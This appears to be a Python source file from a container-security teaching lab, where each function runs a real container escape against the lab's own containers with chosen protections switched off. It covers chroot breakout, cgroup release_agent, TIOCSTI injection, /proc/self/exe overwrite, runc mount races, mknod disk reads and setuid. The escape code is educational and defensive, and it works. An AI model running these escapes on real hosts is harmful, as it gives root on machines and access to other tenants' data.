"""The exhibits of the museum: each function is one way out of a container, as it was really gone.

It takes the names of the locks to leave off, tries, and returns what the attacker
got, as words; "" means that he got nothing. Its docstring is the label on the wall.
See museum, and unlocked for what each lock is.
"""

import contextlib
import os
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from labkit.container.channel import Step
from labkit.container.launch import Job, before
from labkit.container.life import Container
from labkit.container.steps import OpenTerminal, WriteSysctls
from labkit.ground import ledger, proc, state
from labkit.ground import syscalls as sc
from labkit.ground.child import in_child
from labkit.ground.dataclass import replace
from labkit.ground.errors import KernelError, LabError
from labkit.lessons.scenes.attempts import (
    LENT,
    PYTHON,
    Locks,
    alone,
    bait,
    closed_by_the_kernel,
    exhibit,
    printed,
    python,
    sh,
)
from labkit.lessons.scenes.unlocked import CoverSysctl, SwapTerminal, Unlocked, swapped_null


@exhibit("double chroot", "pivot_root")
def _double_chroot(unlocked: Locks) -> str:
    """A process keeps its working directory while it moves its root below it; `..` then never meets the root."""
    code = (
        "import os, sys; os.makedirs('/x', exist_ok=True); os.chroot('/x')\n"
        "for _ in range(64): os.chdir('..')\n"
        "os.chroot('.'); print(open(sys.argv[1]).read())"
    )
    with bait() as (folder, word):
        return "read a file of the host" * (word in python(code, unlocked, folder / "secret"))


@exhibit("sysrq and core_pattern", "read_only")
def _kernel_files(unlocked: Locks) -> str:
    """Most of /proc/sys is the host's: core_pattern names a program that the host runs as root."""
    script = "for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern; do (: >>$f) 2>/dev/null && echo opened; done"
    opened = sh(script, unlocked).count("opened")
    return "files that command the kernel are open" * bool(opened)


@exhibit("a mask of another's making", "mask_source")
def _mask(unlocked: Locks) -> str:
    """A mask is /dev/null, bound; swapped for a link in that moment it opens a file instead (runc, CVE-2025-31133)."""
    return _raced(lambda steps: swapped_null(steps, _READ_ONLY), "echo owned >/proc/interrupts", unlocked)


@exhibit("a console of another's making", "terminal_fd", "masks_first")
def _console(unlocked: Locks) -> str:
    """/dev/console is a terminal, bound by name before the masks; a link has that name now (runc, CVE-2025-52565)."""
    attack = SwapTerminal(_READ_ONLY)
    script = "echo owned >/dev/console"
    return _raced(lambda steps: before(steps, OpenTerminal, attack), script, unlocked, tty=True)


@exhibit("a sysctl that is another file", "proc_itself")
def _sysctl(unlocked: Locks) -> str:
    """A sysctl is a write to a file of /proc; another file is mounted over it in that moment (runc, CVE-2025-52881)."""
    # A container may use port 1: labkit writes 0 there.
    covered = CoverSysctl("/proc/sys/net/ipv4/ip_unprivileged_port_start", _READ_ONLY)
    with contextlib.suppress(LabError):  # with the lock on it is refused, and says so
        return _raced(lambda steps: before(steps, WriteSysctls, covered), "true", unlocked, owned="0")
    return ""


# The bait of these three is the container's own name: written by that file, which is read-only in a container.
_READ_ONLY = "/proc/sys/kernel/hostname"


def _raced(
    attack: Callable[[tuple[Step, ...]], tuple[Step, ...]],
    script: str,
    unlocked: Locks,
    owned: str = "owned",
    **words: Any,
) -> str:
    """Run a script in a container with the attack among its steps; `owned` is the name that only the attack gives."""

    class Raced(Unlocked):
        def altered(self, job: Job) -> Job:
            job = super().altered(job)
            return replace(job, steps=attack(job.steps))

    with bait() as (folder, _):
        command = ["sh", "-c", f"{script}; hostname >/out/name"]
        with Raced("busybox", command, unlocked=unlocked, volumes=[f"{folder}:/out"], **words).start() as box:
            box.wait(30)
        return "wrote to a read-only file of /proc/sys" * ((folder / "name").read_text() == f"{owned}\n")


@exhibit("release_agent", "capabilities")
def _release_agent(unlocked: Locks) -> str:
    """A v1 hierarchy names a program which the kernel starts on the host, as root, when a cgroup empties."""
    with bait() as (folder, word), ledger.made("hierarchy", name=f"museum-{word}"):
        return alone(_with_hierarchy, unlocked, folder, word)


def _with_hierarchy(unlocked: Locks, folder: Path, word: str) -> str:
    agent, proof = folder / "agent", folder / "proof"
    agent.write_text(f'#!/bin/sh\necho {word} > "${{0%/*}}/proof"\n')
    agent.chmod(0o755)
    try:
        _mount_hierarchy(f"museum-{word}")
    except KernelError:  # a kernel without v1, or told so: cgroup_no_v1=all
        return closed_by_the_kernel if unlocked else ""
    # The kernel starts it from the host's own root. Where ours is another, its path there is longer.
    for path in dict.fromkeys((str(agent), proc.on_its_filesystem(str(agent))[1])):
        sh(
            f"mkdir /c && mount -t cgroup -o none,name=museum-{word} none /c && mkdir -p /c/x"
            f" && echo 1 > /c/x/notify_on_release && echo {path} > /c/release_agent"
            " && sh -c 'echo $$ > /c/x/cgroup.procs'",
            unlocked,
        )
        deadline = time.monotonic() + 2
        while unlocked and not proof.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        if proof.exists():
            break
    return "the host ran the attacker's program as root" * proof.exists()


def _mount_hierarchy(name: str) -> str:
    """Mount a v1 hierarchy without controllers, in a mount namespace of this process's own; return where."""
    sc.unshare(sc.CLONE_NEWNS)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
    place = str(state.run_dir("museum"))
    sc.mount("none", place, "cgroup", 0, f"none,name={name}")
    return place


@ledger.undoes("hierarchy")
def remove_hierarchy(name: str) -> None:
    """End a named hierarchy: it lives as long as it has a folder or a mount. The ledger's kind `hierarchy`."""

    def work() -> None:
        place = _mount_hierarchy(name)
        for folder in filter(Path.is_dir, Path(place).iterdir()):
            folder.rmdir()
        sc.umount2(place)

    # A removed folder is dead a moment later, and the hierarchy goes at the next unmount after that.
    for wait in (0, 0.3, 0.5, 1, 2):
        deadline = time.monotonic() + wait
        while f"name={name}:" in Path("/proc/self/cgroup").read_text():
            if time.monotonic() > deadline:
                in_child(work)
                break
            time.sleep(0.01)
        else:
            return
    raise LabError(f"the cgroup hierarchy {name} does not go", f"grep -l {name} /proc/*/cgroup")


@exhibit("mknod of the disk", "nodev", "devices")
def _mknod(unlocked: Locks) -> str:
    """A device node is only a kind and two numbers; who may make and open one reads the disk past every permission."""
    from labkit.storage.drivers import loop

    with bait() as (folder, word):
        disk = folder / "disk"
        disk.write_bytes(word.encode().ljust(1 << 20, b"\0"))
        with loop.attached(disk) as device:
            number = os.stat(device).st_rdev
            script = f"mknod /disk b {os.major(number)} {os.minor(number)} && head -c 16 /disk"
            return "read the disk" * (word in sh(script, unlocked))


@exhibit("a mount that leaks", "private", "pivot_root")
def _propagation(unlocked: Locks) -> str:
    """Most hosts share their mounts: what is mounted in a copy of the mount table shows up in the other."""
    return alone(_in_shared_namespace, unlocked)


def _in_shared_namespace(unlocked: Locks) -> str:
    from labkit.ground import proc

    sc.unshare(sc.CLONE_NEWNS)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_SHARED)
    before = {mount.id for mount in proc.mounts()}
    with Unlocked("busybox", ["sleep", "30"], unlocked=unlocked).start():
        leaked = [mount.target for mount in proc.mounts() if mount.id not in before]
        for target in reversed(leaked):
            sc.umount2(target, sc.MNT_DETACH)
    return "the container's mounts are in the host's table" * bool(leaked)


@exhibit("TIOCSTI", "session")
def _tiocsti(unlocked: Locks) -> str:
    """A process may push letters into its own terminal, as if typed: the shell outside reads and obeys them."""
    return alone(_on_a_terminal, unlocked)


def _on_a_terminal(unlocked: Locks) -> str:
    import fcntl
    import select
    import signal
    import termios

    with contextlib.suppress(FileNotFoundError):
        if Path("/proc/sys/dev/tty/legacy_tiocsti").read_text().strip() == "0":
            return closed_by_the_kernel if unlocked else ""
    signal.signal(signal.SIGHUP, signal.SIG_IGN)  # comes when the terminal is closed
    os.setsid()
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    code = "import fcntl, termios\nfor c in b'echo owned\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))"
    with Unlocked("busybox", [*PYTHON, code], volumes=LENT, unlocked=unlocked).start((slave, slave, slave)) as box:
        box.wait(30)
    typed = select.select([slave], [], [], 0)[0] and os.read(slave, 100)
    os.close(master)
    return "typed a command into the host's shell" * (typed == b"echo owned\n")


@exhibit("an open folder handed down", "close_fds")
def _inherited(unlocked: Locks) -> str:
    """An open file stays open over fork, namespaces, chroot and exec; a folder's fd leads to all below it."""

    def work(folder: Path) -> str:
        fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.dup2(fd, 99)
        return sh(f"cat /proc/self/fd/99{folder}/secret", unlocked)

    with bait() as (folder, word):
        return "read a file of the host" * (word in alone(work, folder))


@exhibit("overwriting /proc/self/exe", "exe")
def _exe(unlocked: Locks) -> str:
    """A script whose interpreter is /proc/self/exe is run by the program that starts the container: the host's own."""
    base = os.path.realpath(sys.base_prefix)
    lent = [*LENT, *([f"{base}:{base}:ro"] if not f"{base}/".startswith("/usr/") else [])]
    with bait() as (folder, _):
        # A copy of Python plays the host's: nothing else may be written to by anybody.
        program = folder / "python"
        shutil.copy(os.path.realpath(sys.executable), program)
        (folder / "shared").mkdir()
        (folder / "attack").write_text(_HAND_OUT)
        (folder / "attack").chmod(0o755)
        words = {
            "volumes": [f"{folder}/shared:/shared", f"{folder}/attack:/attack:ro", *lent],
            "unlocked": tuple(unlocked),
        }
        # The accomplice lives on when the program has ended: only then can its file be written to (ETXTBSY).
        with Unlocked("busybox", [*PYTHON, _WRITE], **words).start():
            box = f"Unlocked('busybox', '/attack', env={{'PYTHONHOME': {base!r}}}, **{words!r})"
            _as_program(program, base, f"with {box}.start() as box: box.wait(30)")
            deadline = time.monotonic() + (3 if unlocked else 0.5)
            while (owned := program.read_bytes()[:5] == b"owned") is False and time.monotonic() < deadline:
                time.sleep(0.02)
    return "overwrote the host's own program" * owned


_HAND_OUT = """#!/proc/self/exe -SE
import os, socket, time
with socket.socket(socket.AF_UNIX) as one:
    for _ in range(100):
        try: one.connect("/shared/door"); break
        except OSError: time.sleep(0.02)
    socket.send_fds(one, [b"x"], [os.open("/proc/self/exe", os.O_RDONLY)])
    one.recv(1)
"""
_WRITE = """
import os, socket, time
with socket.socket(socket.AF_UNIX) as door:
    door.bind("/shared/door"); door.listen()
    one, _ = door.accept()
    _, (fd,), _, _ = socket.recv_fds(one, 1, 1)
    one.close()
while True:
    try: os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY), b"owned"); break
    except OSError: time.sleep(0.01)
"""


def _as_program(program: Path, base: str, code: str) -> None:
    environment = os.environ | {"PYTHONHOME": base, "PYTHONPATH": str(state.REPO)}
    command = [str(program), "-c", f"from labkit.lessons.scenes.unlocked import Unlocked\n{code}"]
    subprocess.run(command, env=environment, capture_output=True, timeout=60, check=False)


@exhibit("a setuid program", "no_new_privs")
def _setuid(unlocked: Locks) -> str:
    """A program with the setuid bit runs with its owner's power, whoever starts it."""
    with bait() as (folder, _):
        folder.chmod(0o755)
        program = folder / "become"
        shutil.copy(os.path.realpath("/usr/bin/python3"), program)
        program.chmod(0o4755)
        code = "import os; print('euid', os.geteuid())"
        command = ["/bait/become", "-SEc", code]
        text = printed(command, unlocked, volumes=[*LENT, f"{folder}:/bait:ro"], user="1000")
        return "user 1000 became root" * ("euid 0" in text)


@exhibit("reaching into another process", "pid_namespace")
def _across(unlocked: Locks) -> str:
    """Two processes of the same user may look into each other: memory, environment, and by /proc/PID/root the root."""
    word = secrets.token_hex(8)
    with Container("busybox", ["sleep", "60"], env=[f"SECRET={word}"]).start() as other:
        (other_pid,) = [process.pid for process in other.top()]
        got = sh(f"cat /proc/{other_pid}/environ", unlocked)
    return "read another container's environment" * (word in got)


@exhibit("raising one's own limit", "cgroup_read_only", "cgroup_namespace")
def _own_limit(unlocked: Locks) -> str:
    """A limit is a number in a file; a container that can write the file has none."""
    script = (
        "v1=/sys/fs/cgroup/memory$(grep -E '[:,]memory[:,]' /proc/self/cgroup | cut -d: -f3)/memory\n"
        "v2=/sys/fs/cgroup$(grep ^0:: /proc/self/cgroup | cut -d: -f3)/memory.max\n"
        "for f in $v1.memsw.limit_in_bytes $v1.limit_in_bytes $v2; do\n"
        "  [ -e $f ] && echo 1073741824 > $f && cat $f\ndone 2>/dev/null"
    )
    return "gave itself 1 GB in place of 32 MB" * ("1073741824" in sh(script, unlocked, memory="32m"))


@exhibit("the kernel's keyring", "keyring", "seccomp")
def _keyring(unlocked: Locks) -> str:
    """Keys are kept by the kernel and belong to a session, and no namespace wraps them."""
    return alone(_with_a_key, unlocked)


_KEYS = """
import ctypes, platform
call = ctypes.CDLL(None, use_errno=True).syscall
add_key, keyctl = {"x86_64": (248, 250)}.get(platform.machine(), (217, 219))
SESSION, JOIN, READ, SEARCH = -3, 1, 11, 10
"""
_READ_KEY = """
key = call(keyctl, SEARCH, SESSION, b"user", b"bait", 0)
text = ctypes.create_string_buffer(64)
print(call(keyctl, READ, key, text, 64) > 0 and text.value.decode())
"""


def _with_a_key(unlocked: Locks) -> str:
    word = secrets.token_hex(8)
    names: dict[str, Any] = {}
    exec(_KEYS, names)  # noqa: S102 - the same lines that the attacker runs
    names["call"](names["keyctl"], names["JOIN"], None)  # a session of the museum's own, gone with this process
    names["call"](names["add_key"], b"user", b"bait", word.encode(), len(word), names["SESSION"])
    return "read a key of the host" * (word in python(_KEYS + _READ_KEY, unlocked))


@exhibit("a link where a mount should go", "in_root")
def _link(unlocked: Locks) -> str:
    """A volume holds a link to a place on the host; the next volume is to be mounted behind it."""
    with bait() as (folder, _):
        (folder / "shared").mkdir()
        (folder / "host").mkdir()
        (folder / "shared" / "link").symlink_to(folder / "host")
        volumes = [f"{folder}/shared:/data", f"{folder}/shared:/data/link/made"]
        with contextlib.suppress(LabError):  # with the lock on it is refused, and says so
            sh("true", unlocked, volumes=volumes)
        return "labkit made a folder outside the root" * (folder / "host" / "made").exists()
